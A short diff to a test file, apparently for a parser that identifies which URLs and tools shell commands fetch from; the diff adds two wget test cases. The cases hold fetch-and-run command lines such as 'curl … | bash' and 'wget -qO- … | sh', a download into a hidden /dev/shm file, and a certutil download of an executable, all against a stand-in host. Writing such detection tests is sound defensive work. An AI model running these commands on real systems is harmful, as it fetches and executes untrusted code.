@@ -17,6 +17,8 @@ describe('readScript sees what is fetched', () => {
     ['bash <(curl -s http://h.example/a.sh)', 'http://h.example/a.sh', 'curl', undefined, true],
     ['/usr/bin/wget -q http://h.example/p/a?b=1', 'http://h.example/p/a?b=1', 'wget', 'a', false],
     ['wget -qO- http://h.example/a | sh', 'http://h.example/a', 'wget', undefined, true],
+    ['wget http://h.example/a -O /dev/shm/.a', 'http://h.example/a', 'wget', '/dev/shm/.a', false],
+    ['wget http://h.example/a -O /dev/null', 'http://h.example/a', 'wget', undefined, false],
     ['wget --output-document=x http://h.example/a', 'http://h.example/a', 'wget', 'x', false],
     [
       'certutil.exe -urlcache -split -f http://h.example/a c:\\a.exe',
